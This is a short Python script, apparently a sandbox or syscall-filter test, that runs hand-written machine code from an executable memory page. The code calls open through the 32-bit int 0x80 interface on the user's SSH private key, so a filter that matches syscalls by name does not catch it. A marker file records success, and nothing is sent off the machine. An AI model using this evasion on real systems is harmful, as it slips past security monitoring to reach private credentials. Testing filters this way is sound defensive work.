"""T6a: opens a key by int 0x80: the 32-bit table's numbers are not those that a filter by name looks for."""

import ctypes
import mmap
import os
import struct

if not os.path.isdir("/usr/lib/probes"):
    raise SystemExit("only in a machine that is thrown away")
MAP_PRIVATE, MAP_ANONYMOUS, MAP_32BIT = 2, 0x20, 0x40
everything = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
page = mmap.mmap(-1, 4096, flags=MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, prot=everything)
start = ctypes.addressof(ctypes.c_char.from_buffer(page))
path = os.path.expanduser("~/.ssh/id_ed25519").encode() + b"\0"
# push rbx; mov eax, 5 (open); mov ebx, path; xor ecx, ecx; int 0x80; pop rbx; ret
code = b"\x53\xb8" + struct.pack("=I", 5) + b"\xbb" + struct.pack("=I", start + 256) + b"\x31\xc9\xcd\x80\x5b\xc3"
page[: len(code)] = code
page[256 : 256 + len(path)] = path
ctypes.CFUNCTYPE(ctypes.c_int)(start)()
os.mkdir("/tmp/went-on")
